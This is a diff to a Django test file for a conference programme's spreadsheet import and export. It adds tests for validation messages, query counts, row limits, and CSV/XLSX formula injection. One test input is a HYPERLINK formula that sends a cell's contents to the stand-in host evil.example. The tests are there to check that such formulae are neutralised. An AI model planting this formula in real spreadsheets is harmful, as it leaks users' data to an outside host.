@@ -1,12 +1,16 @@
 """Spreadsheet resources: export a year, edit it, import it back; bad rows change nothing."""
 
+import csv as csv_module
 import io
 
 import pytest
 import tablib
+from django.db import connection
+from django.test.utils import CaptureQueriesContext, override_settings
 from openpyxl import load_workbook
 
 from programme.models import (
+    ENDS_AFTER_START,
     CommitteeMembership,
     Contact,
     Person,
@@ -14,18 +18,20 @@ from programme.models import (
     SessionChair,
     Talk,
     TalkSpeaker,
+    validate_code,
 )
-from programme.resources import (
+from programme.spreadsheets import (
     CommitteeResource,
     ContactResource,
+    ImportRefused,
     PersonResource,
     SessionResource,
     SpreadsheetCSV,
     SpreadsheetXLSX,
     TalkResource,
-    split_affiliation,
-    split_people,
 )
+from programme.spreadsheets.people import split_people
+from programme.text import split_trailing_brackets
 
 pytestmark = pytest.mark.django_db
 
@@ -304,7 +310,7 @@ def test_bad_row_message_names_the_problem():
     result = SessionResource().import_data(dataset, dry_run=True)
 
     ((_, errors),) = invalid(result)
-    assert errors == {"日期": ["2025-08-12 不在 2025 年大会的会期内（2025-08-09 至 2025-08-10）"]}
+    assert errors == {"日期": ["2025-08-12 不在 CSML2025 会期内（2025-08-09 – 2025-08-10）。"]}
 
 
 def test_xlsx_export_reads_well_for_a_person():
@@ -384,10 +390,115 @@ def test_csv_saved_by_chinese_excel_as_gbk_imports():
 def test_split_people_keeps_brackets_inside_affiliations():
     cell = "张三（北京大学）、李四（香港中文大学（深圳））、林伟 (北京大学)"
 
-    parts = [split_affiliation(part) for part in split_people(cell)]
+    parts = [split_trailing_brackets(part) for part in split_people(cell)]
 
     assert parts == [
         ("张三", "北京大学"),
         ("李四", "香港中文大学（深圳）"),
         ("林伟", "北京大学"),
     ]
+
+
+def test_talk_code_outside_the_url_pattern_is_refused_at_its_cell():
+    dataset = export(TalkResource)
+    dataset.append(["2025", "E2/9", "A1", "9", "新报告", "张三（北京大学）", "否", "", "", "", ""])
+    before = database_state()
+
+    result = TalkResource().import_data(dataset, dry_run=False)
+
+    assert invalid(result) == [
+        (len(dataset), {"报告编号": [str(validate_code.message)]}),
+    ]
+    assert database_state() == before
+
+
+def test_end_before_start_is_the_models_message_under_the_end_column():
+    dataset = edit(export(SessionResource), "分会编号", "A2", "结束", "13:00")
+
+    result = SessionResource().import_data(dataset, dry_run=True)
+
+    assert [errors for _, errors in invalid(result)] == [{"结束": [str(ENDS_AFTER_START)]}]
+
+
+def test_room_of_another_year_is_unknown_in_the_rows_year():
+    dataset = edit(export(SessionResource), "分会编号", "A2", "会场", "会场 1 陈瑞球楼 310")
+
+    result = SessionResource().import_data(dataset, dry_run=True)
+
+    ((_, errors),) = invalid(result)
+    assert list(errors) == ["会场"]
+    assert errors["会场"][0].startswith("2025 年没有会场“会场 1 陈瑞球楼 310”（已有：友谊宫")
+
+
+def imported_queries(resource_class, dataset) -> list[str]:
+    """The statements an import runs, without the savepoint import-export wraps each
+    row in (two statements a row that read nothing)."""
+    with CaptureQueriesContext(connection) as queries:
+        result = resource_class().import_data(dataset, dry_run=True)
+    assert totals(result) == {"skip": len(dataset)}
+    return [q["sql"] for q in queries if "SAVEPOINT" not in q["sql"]]
+
+
+def test_import_queries_do_not_grow_with_the_rows():
+    sessions = through_xlsx(export(SessionResource))
+    first_ten = tablib.Dataset(*list(sessions)[:10], headers=sessions.headers)
+
+    ten = imported_queries(SessionResource, first_ten)
+    forty = imported_queries(SessionResource, sessions)
+
+    # conferences, sessions, their chairs, rooms, tracks, people: once each
+    assert (len(sessions), len(ten), len(forty)) == (40, 6, 6)
+
+
+def test_talk_import_queries_do_not_grow_with_the_rows():
+    talks = export(TalkResource)
+    first_ten = tablib.Dataset(*list(talks)[:10], headers=talks.headers)
+
+    assert len(imported_queries(TalkResource, talks)) == len(
+        imported_queries(TalkResource, first_ten)
+    )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+
+
+@pytest.mark.parametrize("value", [FORMULA, "=1+1", "+1+2", "-2+3", "@SUM(A1)", "'quoted", "a=b"])
+def test_csv_cells_are_never_formulae_and_come_back_unchanged(value):
+    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=value)
+    csv = SpreadsheetCSV()
+
+    text = csv.export_data(export(TalkResource))
+    dataset = csv.create_dataset(text.encode("utf-8"))
+    result = TalkResource().import_data(dataset, dry_run=False)
+
+    (line,) = [line for line in text.splitlines() if ",A1-2," in line]
+    cell = next(csv_module.reader([line]))[4]
+    assert cell == (value if value == "a=b" else "'" + value)
+    assert totals(result) == {"skip": 167}
+    assert Talk.objects.get(conference__year=2025, code="A1-2").title == value
+
+
+def test_xlsx_cells_are_text_never_formulae_and_come_back_unchanged():
+    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)
+    xlsx = SpreadsheetXLSX()
+
+    data = xlsx.export_data(export(TalkResource))
+    sheet = load_workbook(io.BytesIO(data)).active
+    result = TalkResource().import_data(xlsx.create_dataset(data), dry_run=False)
+
+    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
+    (title,) = [row[4] for row in sheet.iter_rows() if row[1].value == "A1-2"]
+    assert (title.value, title.data_type, "f" in types) == (FORMULA, "s", False)
+    assert totals(result) == {"skip": 167}
+    assert Talk.objects.get(conference__year=2025, code="A1-2").title == FORMULA
+
+
+@override_settings(IMPORT_MAX_ROWS=20)
+@pytest.mark.parametrize("file_format", [SpreadsheetXLSX, SpreadsheetCSV], ids=["xlsx", "csv"])
+def test_reading_stops_at_the_row_limit(file_format):
+    data = file_format().export_data(export(TalkResource))
+    if isinstance(data, str):
+        data = data.encode("utf-8")
+
+    with pytest.raises(ImportRefused, match="超过 20 行"):
+        file_format().create_dataset(data)
